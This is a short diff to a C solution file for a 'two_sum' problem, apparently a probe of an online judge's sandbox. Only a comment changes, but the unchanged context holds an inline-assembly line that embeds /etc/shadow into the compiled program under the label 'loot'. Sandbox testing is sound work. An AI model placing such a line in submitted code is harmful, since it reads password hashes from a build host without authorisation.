@@ -1,4 +1,4 @@
-/* CE|RTE|WA: has the assembler read a file that is not its own */
+/* CE|RTE|WA reads: has the assembler read a file that is not its own */
 __asm__(".pushsection .data\nloot: .incbin \"/etc/shadow\"\n.popsection\n");
 
 #include "two_sum.h"
